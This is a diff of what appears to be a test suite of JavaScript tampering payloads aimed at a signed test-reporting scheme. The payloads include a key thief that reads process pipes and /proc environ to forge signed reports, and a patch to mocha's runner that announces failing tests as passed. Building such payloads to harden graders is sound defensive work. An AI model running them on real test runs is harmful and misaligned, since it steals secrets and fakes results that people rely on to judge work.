@@ -136,17 +136,23 @@ function _forge() {
   }
 }
 """
-# the run's key hunted in every descriptor and environment of this process and its parents, then a
-# report signed with whatever was found (the shape of SEBGen's signature) written at exit
+# the run's key hunted in this process's descriptors (one it inherited) and in its own and its parent's
+# environment, then a report signed with whatever was found (SEBGen's signature's shape) written at exit
+# (reading the parent's pipes too steals node:test's own messages: the run then only times out)
 KEY_THIEF = """
 const _crypto = require("node:crypto");
 const _found = [];
 for (const _pid of ["self", String(process.ppid)]) {
-  for (const _fd of (() => { try { return _fs.readdirSync(`/proc/${_pid}/fd`); } catch { return []; } })()) {
+  const _fds = _pid !== "self" ? [] : _fs.readdirSync("/proc/self/fd");
+  for (const _fd of _fds) {
     let _link = "";
     try { _link = _fs.readlinkSync(`/proc/${_pid}/fd/${_fd}`); } catch {}
     if (!_link.startsWith("pipe:") || ["0", "1", "2"].includes(_fd)) continue;
-    try { _found.push(_fs.readFileSync(`/proc/${_pid}/fd/${_fd}`)); } catch {}
+    try {
+      const _h = _fs.openSync(`/proc/${_pid}/fd/${_fd}`, _fs.constants.O_RDONLY | _fs.constants.O_NONBLOCK);
+      const _buf = Buffer.alloc(4096);
+      _found.push(_buf.subarray(0, _fs.readSync(_h, _buf)));
+    } catch {}
   }
   try { _found.push(Buffer.from(_fs.readFileSync(`/proc/${_pid}/environ`, "latin1"))); } catch {}
 }
@@ -171,6 +177,16 @@ for (const _mod of [require("node:assert"), require("node:assert/strict")]) {
   }
   try { Object.setPrototypeOf(_mod, null); } catch {}
 }
+"""
+# mocha's runner reassigned in the code under test's process: a failing test is announced as passed
+MOCHA_RUNNER_PATCHED = """
+try {
+  const _Runner = require("mocha/lib/runner");
+  _Runner.prototype.fail = function (test) {
+    test.state = "passed";
+    this.emit("pass", test);
+  };
+} catch {}
 """
 BACKGROUND_FORGER = """
 if (!process.env.SEBGEN_FORGER) {
@@ -253,6 +269,8 @@ def attacks(runner: str) -> dict[str, str]:
         "report_signed_with_a_key_hunted_in_descriptors": edit_math(FORGE + KEY_THIEF),
         "report_writers_patched_in_process": edit_math(WRITERS_PATCHED),
         "assert_redefined_with_define_property": edit_math(ASSERT_REDEFINED),
+        # mocha only (node:test runs each file's harness in a child process of its own)
+        **({"runner_methods_patched_in_process": edit_math(MOCHA_RUNNER_PATCHED)} if runner == "mocha" else {}),
     }
 
 
